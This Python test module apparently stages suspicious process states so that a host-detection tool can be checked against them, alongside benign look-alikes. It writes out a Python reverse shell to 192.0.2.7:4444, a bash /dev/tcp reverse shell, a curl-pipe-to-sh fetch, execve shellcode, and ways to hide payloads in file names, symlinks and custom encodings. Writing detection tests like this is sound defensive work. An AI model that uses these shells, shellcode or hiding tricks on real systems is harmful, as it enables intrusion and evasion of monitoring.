"""Harmful states of what processes are handed: command lines, variables, standard input, names.

The programs are the system's own and do nothing but wait; only what they were given is odd.
"""

from __future__ import annotations

import base64
import os
import random
import shutil
import socket
import string
from collections.abc import Callable, Sequence

from tests.live.memory import memory
from tests.live.running import disk, placed, started
from tests.live.scripts import PYTHON, program, running
from tests.live.stage import Refused, Stage, Staged, heard, identity
from tests.live.state import Stager, State, benign

WAIT = "echo ready; read -r x"
EXECVE = bytes.fromhex("4831f65648bf2f62696e2f2f736857545f6a3b58990f05")
PAUSE = bytes.fromhex("6a22580f05ebf9")
PERL_MEMFD = (
    '$|=1; print "ready\\n"; my $x=<STDIN>; syscall(319, my $n="x", 1);'
    ' exec {"/proc/self/fd/3"} "x";'
)
COMPILES = "import sys\nprint('ready', flush=True)\nexec(compile(sys.stdin.read(), 'x', 'exec'))"
CI_JOB = (
    f"set -eu; cd /; {WAIT}; curl -sf -F a=@b https://ci.example.net; "
    "zcat x.sql.gz | mysql app; echo $CERT | base64 -d > /etc/app.pem"
)
TOKEN = (
    "--token=eyJhbGciOiJSUzI1NiIsImtpZCI6IngifQ.eyJpc3MiOiJrdWJlcm5ldGVzIiwic3ViIjoic3lzdGVt"
    "OmFwcCJ9.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg"
)
PYTHON_BACK_DOOR = b"""import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('192.0.2.7', 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(['/bin/sh', '-i'])
"""


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def command(words: Sequence[str], **options: object) -> Stager:
    """An interpreter with code on its command line, which says that it is ready and waits."""

    def stage(stage: Stage) -> Staged:
        return Staged(pid=running(stage, [program(words[0]), *words[1:]], **options))

    return stage


def variable(text: str) -> Stager:
    def stage(stage: Stage) -> Staged:
        environment = {**os.environ, "HOOK": text}
        pid = stage.start([program("sleep"), "100000"], env=environment).pid
        return Staged(pid=pid)

    return stage


def on_connection(stage: Stage) -> Staged:
    """A shell without arguments whose input and output is a connection; this test holds its end."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        near = socket.create_connection(server.getsockname())
        far, _ = server.accept()
    stage.keep(os.dup(near.fileno()))
    with near, far:
        child = stage.start([program("dash"), "-i"], stdin=far.fileno())
    return Staged(pid=child.pid)


def fed_by_pipe(stage: Stage) -> Staged:
    """A shell that somebody's pipe feeds: an ordinary program holds its other end."""
    said, says = os.pipe()
    os.write(says, b"echo ready\n")
    stage.keep(says)
    child = stage.start([program("bash")], stdin=said, speaks=True)
    os.close(said)
    heard(child, b"ready")
    return Staged(pid=child.pid)


def command_file(name: str, option: str, text: str, rest: tuple[str, ...]) -> Stager:
    """A program that is no interpreter runs the commands in a file of /dev/shm."""

    def stage(stage: Stage) -> Staged:
        path = placed(stage, "/dev/shm/{t}-cf-" + name, text.encode())
        argv = [program(name), *rest, option, path]
        return Staged(pid=running(stage, argv))

    return stage


def replaced(new: Callable[[], bytes]) -> Stager:
    """A program on disk that still runs while another file has taken its path."""

    def stage(stage: Stage) -> Staged:
        path = placed(stage, disk(stage) + "/{t}-swap/daemon", original())
        pid = started(stage, path)
        os.rename(stage.file(path + ".new", new()), path)
        return Staged(pid=pid)

    return stage


def original() -> bytes:
    from tests.live import payloads

    return payloads.sleep_copy()


def other_program() -> bytes:
    found = shutil.which("bash", path="/usr/bin:/bin")
    if found is None:
        raise Refused("no bash on this machine")
    with open(found, "rb") as file:
        return file.read()


def own_alphabet(data: bytes) -> bytes:
    letters = list(string.ascii_letters + string.digits + "+/")
    random.Random(4).shuffle(letters)
    table = str.maketrans(string.ascii_uppercase + string.ascii_lowercase + string.digits + "+/",
                          "".join(letters))  # fmt: skip
    return base64.b64encode(data).decode().translate(table).encode()


def in_shared_memory(name: str, data: Callable[[], bytes]) -> Stager:
    def stage(stage: Stage) -> Staged:
        path = placed(stage, "/dev/shm/{t}-" + name, data(), 0o644)
        return Staged(path=path, **identity(path))

    return stage


def in_names(stage: Stage) -> Staged:
    """Empty files whose names are a script in base64, in order."""
    text = base64.urlsafe_b64encode(PYTHON_BACK_DOOR).decode()
    parts = [text[at : at + 80] for at in range(0, len(text), 80)]
    paths = [
        placed(stage, f"/dev/shm/{{t}}-names/{number:02d}_{part}", b"", 0o644)
        for number, part in enumerate(parts)
    ]
    # The report names the first that its walk meets: the names are sorted.
    return Staged(path=paths[0], **identity(paths[0]))


def in_link(stage: Stage) -> Staged:
    """A symbolic link that leads nowhere: its target is a script in base64."""
    folder = stage.directory(f"/dev/shm/{stage.token}-link")
    path = f"{folder}/current"
    stage.promise(path)
    os.symlink(base64.b64encode(PYTHON_BACK_DOOR).decode(), path)
    facts = os.lstat(path)
    dev = f"{os.major(facts.st_dev)}:{os.minor(facts.st_dev)}"
    return Staged(path=path, dev=dev, inode=facts.st_ino)


def addresses(data: bytes) -> bytes:
    rows = (data[at : at + 4].ljust(4, b" ") for at in range(0, len(data), 4))
    return "\n".join(".".join(map(str, row)) for row in rows).encode()


def filled(data: bytes) -> bytes:
    return b".".join(bytes([byte]) for byte in base64.b64encode(data))


T1059 = ("T1059.004",)
STATES = (
    State("python-decodes", "Python runs what it decoded on its command line",
          command(("python", "-c", f"import base64;exec(base64.b64decode('{encoded(PYTHON)}'))")),
          ("command-line-execution",), techniques=T1059),
    State("bash-decodes", "bash evaluates what it decodes, and waits",
          command(("bash", "-c", f'eval "$(echo {encoded(WAIT)} | base64 -d)"; true')),
          ("command-line-execution",), techniques=T1059),
    State("pipeline-parent", "the shell of a pipeline that would fetch and run something",
          command(("sh", "-c", f"{WAIT}; curl -s http://192.0.2.7/x | sh")),
          ("command-line-execution",), techniques=T1059),
    State("bash-sources-shm", "bash -c that would source a file in /dev/shm",
          command(("bash", "-c", f"{WAIT}; . /dev/shm/.profile")), ("command-line-execution",)),
    State("perl-memfd-argument", "perl with the system call for a memfd in its code",
          command(("perl", "-e", PERL_MEMFD)),
          ("command-line-execution",), severity="critical"),
    State("argument-payload", "a script in base64 as an argument of a program that ignores it",
          command(("bash", "-c", WAIT, base64.b64encode(PYTHON_BACK_DOOR).decode())),
          ("command-line-payload",)),
    State("environment-back-door", "a reverse shell in plain text in a variable",
          variable("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"), ("environment-command",)),
    State("shell-on-connection", "sh -i with a TCP connection as its input", on_connection,
          ("script-fed",)),
    State("make-file-shm", "make with a makefile in /dev/shm",
          command_file("make", "-f", f"all:\n\t@{WAIT}; true\n", ()), ("script-in-volatile",)),
    State("swapped-program", "a program whose path has a wholly different one by now",
          replaced(other_program), ("exe-swapped",), techniques=("T1036.005",)),
    State("code-on-a-later-page", "shellcode behind padding, on the third page of its memory",
          memory("anonymous", data=lambda: (b"\xcc" * 90).ljust(8192, b"\0") + bytes(80) + EXECVE),
          ("memory-anonymous-shellcode",)),
    State("pausing-code", "an endless pause before a system call that starts a shell",
          memory("anonymous", data=lambda: PAUSE + EXECVE), ("memory-anonymous-shellcode",)),
    State("own-alphabet", "a program in base64 with an alphabet of its own",
          in_shared_memory("own", lambda: own_alphabet(original())), ("file-encoded-payload",)),
    State("addresses", "a script as IPv4 addresses",
          in_shared_memory("hosts", lambda: addresses(PYTHON_BACK_DOOR)),
          ("file-encoded-payload",)),
    State("filled", "a script in base64 with a dot behind each letter",
          in_shared_memory("dots", lambda: filled(PYTHON_BACK_DOOR)), ("file-encoded-payload",)),
    State("file-names", "a script in the names of empty files", in_names, ("file-name-payload",)),
    State("link-target", "a script in the target of a symbolic link", in_link,
          some=("file-name-payload", "file-encoded-payload")),
)  # fmt: skip
LOOK_ALIKES = (
    benign("one-liner", "Python that compiles what it reads",
           command(("python", "-c", COMPILES)), ceiling="info",
           never=("command-line-execution", "script-fed")),
    benign("ci-shell", "a CI job's shell with a long text",
           command(("bash", "-c", CI_JOB)), ceiling="info", never=("command-line-execution",)),
    benign("token-argument", "a token as an argument",
           command(("bash", "-c", WAIT, TOKEN)), ceiling="info", never=("command-line-payload",)),
    benign("fed-shell", "a shell whose standard input is an ordinary program's pipe", fed_by_pipe,
           ceiling="low"),
    benign("prompt", "a prompt with a substitution in a variable",
           variable("\\u@\\h $(git branch 2>/dev/null | sed -n 's/* //p')\\$ "), ceiling="info",
           never=("environment-command",)),
)  # fmt: skip
